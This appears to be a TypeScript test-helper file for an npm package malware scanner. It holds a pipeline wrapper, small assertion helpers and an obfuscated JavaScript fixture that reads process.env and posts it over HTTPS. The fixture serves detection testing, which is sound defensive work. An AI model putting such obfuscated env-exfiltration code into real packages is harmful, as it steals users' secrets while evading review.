import { classifyFile } from '../../src/rules/classify.js'
import { analyseJavaScript, analyseScriptFile, isScriptFile, judgePackage, readManifest, type JsFacts, type ScriptFileFacts } from '../../src/npm/index.js'
import type { Finding } from '../../src/model/finding.js'

export interface PackageFixture {
  /** package directory within the tree ('' for a root package) */
  readonly root?: string
  /** files by path relative to the package root */
  readonly files: Readonly<Record<string, string>>
  readonly binaries?: readonly { path: string; type: string }[]
}

/** Runs the whole npm pipeline on an in-memory package, as the orchestrator would. */
export function judge(fixture: PackageFixture): Finding[] {
  const root = fixture.root ?? ''
  const at = (p: string): string => (root ? `${root}/${p}` : p)
  const js = new Map<string, JsFacts>()
  const scripts = new Map<string, ScriptFileFacts>()
  let manifest
  for (const [rel, text] of Object.entries(fixture.files)) {
    if (rel === 'package.json') manifest = readManifest(at(rel), text)
    else if (/\.[cm]?js$/.test(rel)) js.set(at(rel), analyseJavaScript(at(rel), text))
    else if (isScriptFile(rel, classifyFile(rel, text))) scripts.set(at(rel), analyseScriptFile(at(rel), text))
  }
  return judgePackage({ root, manifest, js, binaries: (fixture.binaries ?? []).map((b) => ({ ...b, path: at(b.path) })), hasBindingGyp: 'binding.gyp' in fixture.files, scripts })
}

export const pkgJson = (scripts: Record<string, string>, extra: Record<string, unknown> = {}): string => JSON.stringify({ name: 'fixture', version: '1.0.0', ...extra, scripts }, null, 2)

export const ofRule = (findings: readonly Finding[], id: string): Finding[] => findings.filter((f) => f.ruleId === id)

export const worst = (findings: readonly Finding[]): string => findings[0]?.severity ?? 'none'

/** A javascript-obfuscator-style file: rotated string array, `_0x` names, string lookups. */
export const OBFUSCATED = `var _0x4f2a=['log','Hello\\x20World','https','get','child_process','exec','toString','base64','from','data','end','on','write','env','stringify','request','hostname','path','method','POST'];
(function(_0x1b2c3d,_0x4e5f6a){var _0x7a8b9c=function(_0x2d3e4f){while(--_0x2d3e4f){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x7a8b9c(++_0x4e5f6a);}(_0x4f2a,0x1b3));
var _0x5c6d=function(_0x1a2b3c,_0x4d5e6f){_0x1a2b3c=_0x1a2b3c-0x0;var _0x7f8a9b=_0x4f2a[_0x1a2b3c];return _0x7f8a9b;};
var _0x11aa22=require(_0x5c6d('0x2'));var _0x33bb44=_0x11aa22[_0x5c6d('0xf')]({'hostname':_0x5c6d('0x10')});
_0x33bb44[_0x5c6d('0xc')](JSON[_0x5c6d('0xe')](process[_0x5c6d('0xd')]));_0x33bb44[_0x5c6d('0xa')]();
`
